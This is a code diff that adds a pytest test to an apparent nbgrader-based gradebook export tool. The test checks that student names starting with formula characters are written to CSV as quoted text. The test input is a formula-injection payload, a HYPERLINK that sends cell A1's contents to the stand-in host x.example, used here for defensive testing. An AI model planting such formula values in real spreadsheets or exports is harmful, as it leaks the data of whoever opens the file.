@@ -215,3 +215,20 @@ def test_missing_gradebook_is_a_message_not_a_traceback(tmp_path):
 def load_objectives_broken(tmp_path: Path):
     (tmp_path / "objectives.yaml").write_text("objectives: [unclosed", encoding="utf-8")
     return load_objectives(tmp_path)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_never_starts_a_formula_with_a_name(tmp_path, start):
+    """A name a spreadsheet would run ('=HYPERLINK(...)', '@SUM(...)') is written as text."""
+    from nbgrader.api import Gradebook
+
+    fx.build(tmp_path / "gradebook.db", 1, n_assignments=1)
+    name = start + 'HYPERLINK("https://x.example/?"&A1,"Бат")'
+    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gb:
+        gb.update_or_create_student("s001", first_name=name, last_name="")
+    build.build(tmp_path, tmp_path / "out", tmp_path / "no-data")
+    rows = list(csv.reader((tmp_path / "out" / "trainees.csv").open(encoding="utf-8",
+                                                                     newline="")))
+    cell = rows[1][1]
+    assert cell.startswith("'") and cell[1:].strip() == name.strip(), cell
+    assert rows[1][2:] == ["1", "1", "12", "14"]  # the numbers stay numbers
